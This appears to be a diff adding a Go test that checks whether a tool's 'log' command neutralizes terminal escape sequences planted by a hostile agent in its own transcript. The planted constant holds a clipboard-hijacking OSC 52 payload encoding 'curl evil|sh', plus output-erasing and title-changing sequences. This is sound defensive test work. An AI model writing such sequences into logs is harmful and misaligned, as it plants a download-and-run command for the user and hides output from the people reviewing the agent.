@@ -91,3 +91,42 @@ func TestHostileTierLink(t *testing.T) {
 		})
 	}
 }
+
+// escapeAttack: the agent writes a transcript whose text drives the
+// terminal of whoever reads it with "git loop log": OSC 52 puts a command
+// in the user's clipboard, a carriage return and an erase-line hide what
+// the host printed before it, a title sequence and a raw C1 CSI byte.
+const escapeAttack = `A="$GIT_LOOP_AGENT_DIR"; mkdir -p "$A/projects/p"
+printf '%s\n' \
+ '{"type":"user","timestamp":"2026-01-01T00:00:00Z","message":{"role":"user","content":"hi\u001b]52;c;Y3VybCBldmlsfHNo\u0007 there"}}' \
+ '{"type":"assistant","timestamp":"2026-01-01T00:00:01Z","message":{"role":"assistant","content":[{"type":"text","text":"done\r\u001b[2K\u001b]0;pwned\u0007 \u009b31m"},{"type":"tool_use","id":"t1","name":"Bash\u001b[8m","input":{"command":"ls\u001b[1A"}}]}}' \
+ > "$A/projects/p/s.jsonl"
+echo planted`
+
+// TestHostileTerminalEscapes: what the host prints from a transcript the
+// agent wrote reaches the terminal without a control character, on every
+// driver: the escape sequences come out as visible text.
+func TestHostileTerminalEscapes(t *testing.T) {
+	t.Parallel()
+	for _, d := range cmdtest.Drivers {
+		t.Run(d.Name, func(t *testing.T) {
+			t.Parallel()
+			u := contextUser(t, d)
+			u.OK("new", "a", "--driver", d.Name, "--detach")
+			uexec(t, u, "a", escapeAttack)
+			for _, args := range [][]string{{"log", "a"}, {"log", "a", "--all"}} {
+				r := u.Run(args...)
+				out := r.Stdout + r.Stderr
+				t.Logf("%v: exit %d\n%q", args, r.Code, out)
+				if !strings.Contains(out, "52;c;Y3VybCBldmlsfHNo") {
+					t.Errorf("%v does not show the planted text at all (the attack did not run?)", args)
+				}
+				if i := strings.IndexFunc(out, func(r rune) bool {
+					return r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0
+				}); i >= 0 {
+					t.Errorf("%v printed a control character from the transcript: %q", args, out[max(0, i-20):min(len(out), i+20)])
+				}
+			}
+		})
+	}
+}
